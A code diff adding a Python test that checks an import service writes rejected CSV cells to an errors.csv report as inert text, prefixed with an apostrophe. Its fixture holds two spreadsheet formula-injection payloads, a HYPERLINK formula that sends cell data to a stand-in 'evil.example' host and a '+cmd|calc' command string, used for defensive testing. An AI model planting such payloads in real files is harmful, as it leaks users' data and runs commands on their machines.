@@ -183,3 +183,22 @@ async def test_permissions(harness: Harness, admin: httpx.AsyncClient) -> None:
     assert (await admin.get("/api/v2/imports/999/errors.csv")).status_code == 404
     await analyst.aclose()
     await marketer.aclose()
+
+
+async def test_errors_csv_shows_formulas_as_text(
+    harness: Harness, admin: httpx.AsyncClient
+) -> None:
+    """A rejected cell is written to errors.csv as text a spreadsheet does not run."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    data = io.StringIO()
+    csv.writer(data).writerows(
+        [["email", "city"], [formula, "Oslo"], ["+cmd|calc", "Rome"], ["ok@example.com", "Bergen"]]
+    )
+    response = await upload(admin, data.getvalue().encode())
+    assert response.status_code == 202, response.text
+    body = await finished(harness, admin, response.json()["id"])
+    assert body["failed"] == 2
+    report = await admin.get(f"/api/v2/imports/{response.json()['id']}/errors.csv")
+    rows = list(csv.DictReader(io.StringIO(report.text)))
+    assert [r["value"] for r in rows] == ["'" + formula, "'+cmd|calc"]
+    assert [r["line"] for r in rows] == ["2", "3"]
